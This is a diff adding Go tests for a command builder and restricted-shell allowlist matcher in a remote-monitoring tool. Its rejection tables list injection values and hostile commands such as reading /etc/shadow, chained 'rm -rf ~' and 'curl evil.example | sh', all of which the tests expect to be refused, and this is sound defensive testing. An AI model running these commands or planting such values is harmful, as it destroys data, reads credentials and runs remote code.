@@ -0,0 +1,165 @@
+package remote
+
+import (
+	"os/exec"
+	"testing"
+
+	"github.com/ChristianThibeault/gosysmesh/internal/config"
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+)
+
+func mustBuild(t *testing.T, id CommandID, args ...string) string {
+	t.Helper()
+	cmd, err := BuildCommand(id, args...)
+	require.NoError(t, err)
+	return cmd
+}
+
+func TestBuildCommandQuotesArguments(t *testing.T) {
+	assert.Equal(t, "ps -u 'postgres' -o pid,user,%cpu,%mem,stat,etimes,args --no-headers", mustBuild(t, CommandPs, "postgres"))
+	assert.Equal(t, "cat /proc/'loadavg'", mustBuild(t, CommandProcRead, "loadavg"))
+	assert.Equal(t, "~/'bin/gosysmesh' agent --stdio", mustBuild(t, CommandAgent, "~/bin/gosysmesh"), "~ stays expandable")
+	assert.Equal(t, "rm -f 'a/b' 'a/b'.prev 'a/b'.new", mustBuild(t, CommandRemove, "a/b"))
+
+	// A shell still expands the ~ of a quoted path
+	out, err := exec.Command("sh", "-c", "echo "+ParamPath.quote("~/x")).Output()
+	require.NoError(t, err)
+	assert.NotEqual(t, "~/x\n", string(out))
+}
+
+func TestBuildCommandRejectsInvalidArguments(t *testing.T) {
+	tests := []struct {
+		name string
+		id   CommandID
+		args []string
+	}{
+		{"unregistered command", "uptime", nil},
+		{"missing argument", CommandPs, nil},
+		{"extra argument", CommandProbe, []string{"-a"}},
+		{"user with a space", CommandPs, []string{"root; id"}},
+		{"user with a quote", CommandPs, []string{"o'brien"}},
+		{"path traversal", CommandAgent, []string{"../../bin/sh"}},
+		{"path with a command substitution", CommandAgent, []string{"$(id)"}},
+		{"proc file outside the list", CommandProcRead, []string{"self/environ"}},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			_, err := BuildCommand(tt.id, tt.args...)
+			assert.Error(t, err)
+		})
+	}
+}
+
+func TestRegister(t *testing.T) {
+	t.Cleanup(func() { delete(registry, "test-service-active") })
+
+	require.NoError(t, Register(Command{
+		ID:       "test-service-active",
+		Template: "systemctl is-active {{unit}}",
+		Params:   []Param{{Name: "unit", Type: ParamUser}},
+		ReadOnly: true,
+	}))
+	assert.Equal(t, "systemctl is-active 'nginx'", mustBuild(t, "test-service-active", "nginx"))
+
+	assert.Error(t, Register(Command{ID: CommandPs, Template: "ps"}), "IDs are unique")
+	assert.Error(t, Register(Command{ID: "test-unused", Template: "true", Params: []Param{{Name: "x", Type: ParamUser}}}))
+	assert.Error(t, Register(Command{ID: "test-undeclared", Template: "echo {{x}}"}))
+}
+
+// TestMatchCommand documents what restricted-shell accepts: exactly the
+// commands BuildCommand produces, for arguments BuildCommand accepts, and
+// nothing else.
+func TestMatchCommand(t *testing.T) {
+	t.Run("every built command matches itself", func(t *testing.T) {
+		samples := map[ParamType]string{ParamUser: "www-data", ParamPath: "~/.gosysmesh/bin/gosysmesh", ParamProcFile: "loadavg"}
+		for id, c := range registry {
+			args := make([]string, len(c.Params))
+			for i, p := range c.Params {
+				args[i] = samples[p.Type]
+			}
+			matched, gotArgs, ok := MatchCommand(mustBuild(t, id, args...))
+			require.True(t, ok, "%s", id)
+			assert.Equal(t, id, matched.ID)
+			assert.Equal(t, args, gotArgs)
+		}
+	})
+
+	readOnly := []struct {
+		name    string
+		command string
+		want    CommandID
+	}{
+		{"collection script", mustBuild(t, CommandCollect, "postgres"), CommandCollect},
+		{"process listing", mustBuild(t, CommandPs, "postgres"), CommandPs},
+		{"system stats", mustBuild(t, CommandStats), CommandStats},
+		{"probe used by config init and doctor", mustBuild(t, CommandProbe), CommandProbe},
+		{"tools check used by doctor", mustBuild(t, CommandToolsCheck), CommandToolsCheck},
+		{"agent at an absolute path", mustBuild(t, CommandAgent, "/usr/local/bin/gosysmesh"), CommandAgent},
+	}
+	for _, tt := range readOnly {
+		t.Run("allows "+tt.name, func(t *testing.T) {
+			c, _, ok := MatchCommand(tt.command)
+			require.True(t, ok)
+			assert.Equal(t, tt.want, c.ID)
+			assert.True(t, c.ReadOnly)
+		})
+	}
+
+	t.Run("allows collecting each subset of metric families", func(t *testing.T) {
+		for _, families := range familySubsets() {
+			id := collectCommandID(families)
+			var args []string
+			if hasFamily(families, config.FamilyProcesses) {
+				args = append(args, "postgres")
+			}
+			c, _, ok := MatchCommand(mustBuild(t, id, args...))
+			require.True(t, ok, "%s", id)
+			assert.Equal(t, id, c.ID)
+			assert.True(t, c.ReadOnly)
+		}
+		assert.Len(t, familySubsets(), 6)
+	})
+
+	t.Run("deployment commands are not read-only", func(t *testing.T) {
+		for _, id := range []CommandID{CommandArch, CommandAgentVersion, CommandChecksum, CommandActivate, CommandDiscard, CommandRollback, CommandRemove} {
+			var args []string
+			if len(registry[id].Params) > 0 {
+				args = append(args, ".gosysmesh/bin/gosysmesh")
+			}
+			c, _, ok := MatchCommand(mustBuild(t, id, args...))
+			require.True(t, ok)
+			assert.False(t, c.ReadOnly, "%s", id)
+		}
+	})
+
+	probe := mustBuild(t, CommandProbe)
+	ps := mustBuild(t, CommandPs, "postgres")
+	rejected := []struct {
+		name    string
+		command string
+	}{
+		{"interactive login", ""},
+		{"arbitrary command", "cat /etc/shadow"},
+		{"command chained with a semicolon", probe + "; rm -rf ~"},
+		{"command chained without a space", probe + ";rm -rf ~"},
+		{"command chained with &&", probe + " && curl evil.example | sh"},
+		{"output piped to a shell", probe + "|sh"},
+		{"trailing newline and second command", probe + "\nid"},
+		{"leading whitespace", " " + probe},
+		{"different arguments", "uname -a"},
+		{"unquoted user", "ps -u postgres -o pid,user,%cpu,%mem,stat,etimes,args --no-headers"},
+		{"user breaking out of its quotes", "ps -u 'root';id;'' -o pid,user,%cpu,%mem,stat,etimes,args --no-headers"},
+		{"command substitution in a user", "ps -u '$(id)' -o pid,user,%cpu,%mem,stat,etimes,args --no-headers"},
+		{"process listing with a second command", ps + "; id"},
+		{"agent with a traversing path", "'../../bin/sh' agent --stdio"},
+		{"agent without --stdio", "'gosysmesh' agent"},
+		{"repeated parameter with different values", "rm -f 'a' 'b'.prev 'c'.new"},
+	}
+	for _, tt := range rejected {
+		t.Run("rejects "+tt.name, func(t *testing.T) {
+			_, _, ok := MatchCommand(tt.command)
+			assert.False(t, ok, "%q must not match", tt.command)
+		})
+	}
+}